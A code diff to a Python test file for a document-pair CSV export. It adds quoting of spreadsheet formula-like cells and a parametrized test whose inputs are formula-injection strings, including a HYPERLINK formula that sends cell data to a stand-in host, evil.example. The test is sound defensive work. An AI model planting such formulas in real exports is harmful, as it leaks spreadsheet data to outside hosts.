@@ -9,10 +9,10 @@ import zipfile
 import pytest
 
 from backend.documents.public_meetings import raw_files
-from backend.exports.pairs import FIELDS
-from backend.exports.split import split_of
 from tests.exports.conftest import NO_LENGTH_FILTER, body, records
 from workers.align.corpus import load_public_meetings
+from workers.align.pairs.shape import FIELDS
+from workers.align.pairs.split import split_of
 from workers.align.readers import read_report, read_transcript
 
 
@@ -87,7 +87,30 @@ def test_csv_carries_the_same_records_as_jsonl(corpus):
 def _as_cell(value) -> str:
     if value is None:
         return ""
-    return json.dumps(value, ensure_ascii=False) if isinstance(value, list) else str(value)
+    if isinstance(value, list):
+        return json.dumps(value, ensure_ascii=False)
+    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
+        return f"'{value}"
+    return str(value)
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1"],
+)
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(corpus, name):
+    document = corpus.gold[0]
+    document.name = name
+    document.save(update_fields=["name"])
+    params = {**NO_LENGTH_FILTER, "remove_tags": "false"}
+
+    response = corpus.client().get(f"{corpus.url}/exports/pairs.csv", params)
+
+    rows = list(csv.DictReader(io.StringIO(body(response).decode(), newline="")))
+    names = {row["document_name"] for row in rows if row["document_id"] == str(document.pk)}
+    assert names == {f"'{name}"}
+    jsonl = records(corpus.client().get(f"{corpus.url}/exports/pairs.jsonl", params))
+    assert {r["document_name"] for r in jsonl if r["document_id"] == document.pk} == {name}
 
 
 def seed_splitting(corpus) -> str:
